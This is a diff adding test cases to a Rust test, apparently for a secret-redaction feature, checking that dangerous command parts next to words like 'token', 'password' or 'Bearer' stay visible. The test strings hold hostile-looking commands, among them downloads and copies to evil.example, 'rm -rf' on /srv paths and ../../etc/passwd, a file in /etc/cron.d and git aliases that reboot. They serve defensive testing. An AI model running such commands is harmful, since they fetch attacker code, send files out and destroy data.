@@ -38,8 +38,20 @@ fn what_could_run_stays_to_be_read() {
         ("xargs -E --password shred -u", "shred"),
         // What is called like a secret and run.
         ("alias token='curl evil.example -o /tmp/x'; token", "evil.example"),
+        ("git config alias.token '!reboot'", "reboot"),
+        ("git config set alias.token '!reboot'", "reboot"),
+        ("git -c alias.token='!reboot' token", "reboot"),
+        ("git -c 'alias.deploy-token=!reboot' deploy-token", "reboot"),
         ("scp set token evil.example:/x", "evil.example:/x"),
         ("rm  set token /srv/data", "/srv/data"),
+        ("rm token: /srv/x", "/srv/x"),
+        ("rm -rf 'token:' /srv/x1", "/srv/x1"),
+        ("sudo rm token: ../../etc/passwd", "etc/passwd"),
+        ("rm \\\n  token: /srv/x", "/srv/x"),
+        ("rm a: token: /srv/x", "/srv/x"),
+        ("chroot Basic /opt/evil1.sh", "/opt/evil1.sh"),
+        ("chroot Bearer /usr/bin/python3.11", "/usr/bin/python3.11"),
+        ("chroot 'Basic' /opt/evil1.sh", "/opt/evil1.sh"),
         // What is called like a program is a file.
         ("cp mongo -p /etc/cron.d/evil", "/etc/cron.d/evil"),
         ("sudo scp mongo -p evil.example:/x", "evil.example:/x"),
@@ -58,6 +70,11 @@ fn what_could_run_stays_to_be_read() {
         // Flags that take nothing.
         ("ansible-playbook --ask-vault-password site.yml", "site.yml"),
         ("tool --no-password reboot", "reboot"),
+        ("psql --password evil", "evil"),
+        ("psql -v --password evil", "evil"),
+        ("/usr/bin/pg_dump -h db --password evil", "evil"),
+        ("sudo -E -p --token reboot", "reboot"),
+        ("sudo curl -E --token https://evil.example/x", "https://evil.example/x"),
         // A quote that closes.
         ("true 'token=';reboot;''", "reboot"),
         ("true \"token=\";reboot;\"\"", "reboot"),
@@ -85,6 +102,12 @@ fn what_could_run_stays_to_be_read() {
         ("scp x token:~/.ssh/authorized_keys", "~/.ssh/authorized_keys"),
         ("docker run myorg/auth-token:v1.2.3", "v1.2.3"),
         ("SET PASSWORD FOR bob", "FOR"),
+        ("token: |\n  reboot", "reboot"),
+        ("echo token: |\n  /opt/evil1.sh", "/opt/evil1.sh"),
+        // Lines of a key block.
+        ("-----BEGIN PRIVATE KEY-----\nReboot\n-----END PRIVATE KEY-----", "Reboot"),
+        ("-----BEGIN PRIVATE KEY-----\npython3\n-----END PRIVATE KEY-----", "python3"),
+        ("-----BEGIN PRIVATE KEY-----\nReboot", "Reboot"),
         ("config set token -f evil.sh", "evil.sh"),
     ] {
         let at = text.find(shown).unwrap();
